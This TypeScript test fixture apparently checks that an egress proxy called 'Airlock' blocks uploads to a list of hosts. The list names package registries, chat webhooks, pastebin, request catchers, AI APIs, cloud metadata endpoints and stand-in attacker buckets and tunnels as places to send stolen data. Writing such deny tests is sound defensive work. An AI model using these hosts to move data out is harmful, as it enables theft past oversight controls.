/** Popular places for loot and hosts of the setup phase: each is on some allowlist somewhere. */
import { denied, marker, post, type Attack } from './attack.ts';

export const otherHosts: readonly Attack[] = denied(
  'host.not-granted',
  Object.fromEntries(
    Object.entries({
      'cdn.jsdelivr.net': 'packages, after setup',
      'files.pythonhosted.org': 'packages of Python',
      'npm.pkg.github.com': 'packages of GitHub',
      'proxy.golang.org': 'packages of Go, whose paths can carry data',
      'archive.ubuntu.com': 'packages of the distribution',
      'pastebin.com': 'a place for text',
      'hooks.slack.com': 'the webhook of a chat',
      'discord.com': 'the webhook of another chat',
      'attacker.s3.amazonaws.com': 'a bucket',
      'attacker.blob.core.windows.net': 'another bucket',
      'attacker.ngrok.app': 'a tunnel',
      'attacker.workers.dev': 'a Worker',
      'webhook.site': 'a request catcher',
      'chatgpt.com': 'the model’s other face',
      'api.anthropic.com': 'another model',
      'metadata.google.internal': 'the cloud’s metadata by name',
      localhost: 'this machine by name',
      'host.docker.internal': 'the machine outside by name',
      airlock: 'Airlock by name',
    }).map(([host, what]) => [
      `an upload to ${what}: ${host}`,
      post(`/${marker}`, marker, {
        host,
        headers: ['content-type: application/x-www-form-urlencoded'],
      }),
    ]),
  ),
);
